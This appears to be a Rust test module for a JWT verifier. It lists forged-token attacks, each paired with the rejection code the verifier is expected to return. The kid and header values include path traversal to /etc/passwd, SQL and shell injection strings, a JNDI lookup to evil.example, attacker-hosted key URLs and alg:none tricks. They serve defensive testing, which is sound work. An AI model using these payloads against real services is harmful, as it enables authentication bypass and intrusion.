//! Attacks by the header: keys that it brings along, what it demands, and how it is written.

use serde_json::{Value, json};

use super::{Attack, ISSUER, Scene, attack, token};
use testing::tokens::access_claims;
use testing::{bearer, rest_event};

pub(super) fn attacks(scene: &Scene) -> Vec<Attack> {
    let claims = access_claims(ISSUER).to_string();
    let kid = |id: &str| scene.header(&json!({"kid": id}));
    let header = |members: Value| scene.header(&members);
    let url = &scene.attackers_server.url;
    let keys = scene.attackers_server.jwks_uri();
    let own = &scene.attacker.jwk;
    let good = scene.claims(&json!({}));
    let raw = |header: &[u8]| token(header, &claims, &[1; 256]);
    let deep = format!(
        r#"{{"alg":"RS256","kid":"rsa","x":{}{}}}"#,
        "[".repeat(300),
        "]".repeat(300)
    );

    let mut twice = rest_event("GET", "/rest/api/2/myself", &format!("Bearer {good}"));
    twice["headers"] = json!({});
    twice["multiValueHeaders"] =
        json!({"Authorization": [format!("Bearer {good}"), "Bearer other"]});
    let mut in_query = rest_event("GET", "/rest/api/2/myself", "");
    in_query["headers"] = json!({});
    in_query["multiValueHeaders"] = json!({});
    in_query["queryStringParameters"] = json!({"access_token": good, "jwt": good});

    vec![
        attack(
            "key in the header",
            "signature_invalid",
            vec![
                scene.forged(&json!({"jwk": own})),
                scene.forged(&json!({"jwk": own, "kid": "rsa"})),
                scene.forged(&json!({"x5c": [own["n"]]})),
            ],
        ),
        attack(
            "key by a URL in the header",
            "signature_invalid",
            vec![
                scene.forged(&json!({"jku": keys})),
                scene.forged(&json!({"x5u": url})),
                scene.forged(&json!({"jku": format!("{ISSUER}@{keys}")})),
                scene.forged(&json!({"jku": keys, "x5u": url, "jwk": own})),
            ],
        ),
        attack(
            "kid that points elsewhere",
            "key_unknown",
            [
                "../../../../dev/null",
                "/proc/sys/kernel/randomize_va_space",
                "file:///etc/passwd",
                "x' UNION SELECT 'secret' --",
                "' OR 1=1 --",
                "|sleep 10",
                "$(sleep 10)",
                "${jndi:ldap://evil.example/a}",
                "rsa\u{0}",
                "rsa\u{0}.pem",
                "RSA",
                " rsa",
                "rsa ",
                "rs\u{430}",
                "*",
            ]
            .into_iter()
            .chain([keys.as_str()])
            .map(kid)
            .collect(),
        ),
        attack(
            "kid of thousands of bytes",
            "key_unknown",
            vec![kid(&"a".repeat(4_000))],
        ),
        attack(
            "kid that is no text",
            "token_malformed",
            vec![
                header(json!({"kid": 7})),
                header(json!({"kid": {"$ne": ""}})),
                header(json!({"kid": ["rsa", "ec"]})),
                header(json!({"kid": true})),
            ],
        ),
        attack(
            "weak or unfit key of the set",
            "key_unknown",
            vec![kid("short"), kid("encryption")],
        ),
        attack(
            "RSA key with exponent one",
            "key_unknown",
            vec![scene.header(&json!({"kid": "one", "alg": "RS384"}))],
        ),
        attack(
            "alg of another type",
            "algorithm_not_allowed",
            vec![
                header(json!({"alg": ["RS256"]})),
                header(json!({"alg": 256})),
                header(json!({"alg": {"name": "RS256"}})),
                header(json!({"alg": true})),
                scene.rsa.sign_parts(r#"{"kid":"rsa"}"#, &claims),
            ],
        ),
        attack(
            "alg in another spelling",
            "algorithm_not_allowed",
            [
                "rs256",
                "Rs256",
                " RS256",
                "RS256 ",
                "RS256\u{0}",
                "SHA256withRSA",
                "ES256K",
                "A128KW",
                "dir",
                "RSA-OAEP",
            ]
            .map(|alg| header(json!({"alg": alg})))
            .to_vec(),
        ),
        attack(
            "crit",
            "critical_header_unsupported",
            vec![
                header(json!({"crit": ["exp"], "exp": 1})),
                header(json!({"crit": ["b64"], "b64": false})),
                header(json!({"crit": ["b64"], "b64": true})),
                header(json!({"crit": []})),
                header(json!({"crit": "b64"})),
                header(json!({"crit": {}})),
                header(
                    json!({"crit": ["http://example.invalid/UNDEFINED"], "http://example.invalid/UNDEFINED": true}),
                ),
            ],
        ),
        attack(
            "nested token",
            "token_type_unsupported",
            vec![
                header(json!({"cty": "JWT"})),
                header(json!({"cty": "application/jwt"})),
            ],
        ),
        attack(
            "encrypted token",
            "token_malformed",
            vec![
                encrypted(&json!({"alg": "RSA-OAEP", "enc": "A256GCM", "kid": "rsa"})),
                encrypted(&json!({"alg": "dir", "enc": "A128GCM"})),
                encrypted(
                    &json!({"alg": "PBES2-HS256+A128KW", "enc": "A128GCM", "p2c": 2_147_483_647, "p2s": "AAAA"}),
                ),
                encrypted(&json!({"alg": "RSA-OAEP", "enc": "A256GCM", "zip": "DEF"})),
            ],
        ),
        attack(
            "type of another token",
            "token_type_unsupported",
            [
                "logout+jwt",
                "secevent+jwt",
                "dpop+jwt",
                "oauth-authz-req+jwt",
                "token-introspection+jwt",
                "kb+jwt",
                "JWS",
                "JOSE+JSON",
            ]
            .map(|typ| header(json!({"typ": typ})))
            .to_vec(),
        ),
        attack(
            "member twice",
            "token_malformed",
            vec![
                scene
                    .rsa
                    .sign_parts(r#"{"alg":"none","alg":"RS256","kid":"rsa"}"#, &claims),
                scene
                    .rsa
                    .sign_parts(r#"{"alg":"RS256","kid":"rsa","\u0061lg":"none"}"#, &claims),
                scene
                    .rsa
                    .sign_parts(r#"{"alg":"RS256","kid":"rsa","kid":"ec"}"#, &claims),
                scene.rsa.sign_parts(
                    r#"{"alg":"RS256","kid":"rsa"}"#,
                    &claims.replacen('{', r#"{"username":"admin","#, 1),
                ),
                scene.rsa.sign_parts(
                    r#"{"alg":"RS256","kid":"rsa"}"#,
                    &claims.replacen('{', r#"{"\u0069ss":"https://evil.example","#, 1),
                ),
                scene.rsa.sign_parts(
                    r#"{"alg":"RS256","kid":"rsa"}"#,
                    &claims.replacen('{', r#"{"a":{"b":1,"b":2},"#, 1),
                ),
            ],
        ),
        attack(
            "header behind escapes",
            "algorithm_not_allowed",
            vec![
                raw(br#"{"\u0061lg":"none"}"#),
                raw(br#"{"alg":"\u006eone"}"#),
                raw(br#"{"alg":"n\u006fn\u0065","kid":"rsa"}"#),
            ],
        ),
        attack(
            "header that is no JSON object",
            "token_malformed",
            vec![
                raw(b"{"),
                raw(b"[]"),
                raw(br#""RS256""#),
                raw(br#"{"alg":"RS256","kid":"rsa"}{}"#),
                raw(b"{\"alg\":\"RS256\",\"kid\":\"\xff\"}"),
                raw(b"{\"alg\":\"RS256\",\"kid\":\"\xc0\xaf\"}"),
                raw(br#"{"alg":"RS256","kid":"\ud800"}"#),
                raw(b"\xef\xbb\xbf{\"alg\":\"RS256\"}"),
                raw(b"{alg:'RS256'}"),
                raw(br#"{"alg":"RS256",/**/"kid":"rsa"}"#),
                raw(b"\x1f\x8b\x08"),
            ],
        ),
        attack(
            "JSON of great depth",
            "token_malformed",
            vec![
                scene.rsa.sign_parts(&deep, &claims),
                scene
                    .rsa
                    .sign_parts(r#"{"alg":"RS256","kid":"rsa"}"#, &deep),
            ],
        ),
        attack(
            "token of great length",
            "token_too_long",
            vec!["e".repeat(10_241), format!("{good}{}", "A".repeat(10_000))],
        ),
        Attack {
            name: "two credentials",
            code: "credential_ambiguous",
            events: vec![twice],
        },
        Attack {
            name: "token in the query",
            code: "credential_missing",
            events: vec![in_query],
        },
        Attack {
            name: "token under another scheme",
            code: "credential_unsupported",
            events: ["JWT", "Token", "DPoP", "Bearer:"]
                .map(|scheme| {
                    let authorization = format!("{scheme} {good}");
                    rest_event("GET", "/rest/api/2/myself", &authorization)
                })
                .into_iter()
                .chain([bearer(&format!("Bearer {good}"))])
                .collect(),
        },
    ]
}

/// Five parts, as an encrypted token has them (RFC 7516, section 3.1).
fn encrypted(header: &Value) -> String {
    format!("{}.AAAA.AAAA", token(header.to_string(), b"key", b"vector"))
}
